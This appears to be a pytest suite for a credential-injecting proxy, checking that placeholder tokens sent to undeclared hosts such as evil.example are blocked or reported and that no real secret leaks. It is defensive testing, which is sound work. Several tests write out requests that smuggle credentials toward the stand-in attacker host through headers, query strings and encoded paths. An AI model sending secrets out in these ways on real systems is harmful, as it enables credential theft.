"""A placeholder sent to a host that nobody declared: no secret goes there, and what can be seen is reported."""

import base64

import pytest

from canary import sings
from stage import HELD, KEY, Stage
from world import Setup

pytest_plugins = ["stage_fixtures", "world_fixtures"]


def test_through_a_tunnel_the_placeholder_arrives_and_no_secret(stage: Stage, protocol: str) -> None:
    answer = stage.ask(protocol, host=f"evil.example:{stage.origin.port}")
    assert answer.status == 200
    assert stage.only().values(b"authorization") == [HELD[0][1]]
    assert KEY.encode() not in stage.origin.octets()
    assert stage.uses.decisions() == ["tunnel"]


def test_a_tunnel_shows_the_strangers_own_certificate(stage: Stage, protocol: str) -> None:
    """What is not decrypted cannot be searched; this is why only the clear can be reported on."""
    with stage.open(protocol, f"evil.example:{stage.origin.port}") as connection:
        certificate = connection.opened.getpeercert()
    assert certificate
    assert "authsome" not in repr(certificate["issuer"])


@pytest.mark.parametrize(
    ("path", "field"),
    [
        ("", b": ".join(HELD[0])),
        ("", b"X-Other: authsome-proxy-managed-team"),
        ("", b"Authorization: Basic " + base64.b64encode(b"me:authsome-proxy-managed")),
        ("?key=authsome-proxy-managed", b"X-A: b"),
        ("authsome%2Dproxy%2Dmanaged", b"X-A: b"),
    ],
)
def test_in_the_clear_the_placeholder_does_not_leave(stage: Stage, path: str, field: bytes) -> None:
    url = f"http://evil.example:{stage.origin.port}/{path}"
    password = b"Proxy-Authorization: Basic " + stage.client.password
    answer = stage.client.ask_proxy(f"GET {url} HTTP/1.1\r\nHost: evil.example".encode(), password, field)
    assert (answer.status, answer.error) == (403, "placeholder_misplaced")
    assert stage.origin.arrived == []


def test_in_the_clear_no_secret_arrives(stage: Stage) -> None:
    url = f"http://evil.example:{stage.origin.port}/"
    password = b"Proxy-Authorization: Basic " + stage.client.password
    head = f"GET {url} HTTP/1.1\r\nHost: evil.example".encode()
    answer = stage.client.ask_proxy(head, password, b"Authorization: Bearer mine")
    assert answer.status == 200
    assert len(stage.origin.arrived) == 1
    assert not sings(stage.origin.octets())


@pytest.mark.world
def test_in_the_clear_the_placeholder_is_reported(setup: Setup) -> None:
    setup.connect("openai")
    ran = setup.curl("--header", "Authorization: Bearer authsome-proxy-managed", "http://undeclared.example/echo")
    assert not [value for each in setup.received() for value in each.values("authorization") if sings(value.encode())]
    assert "placeholder" in ran.err
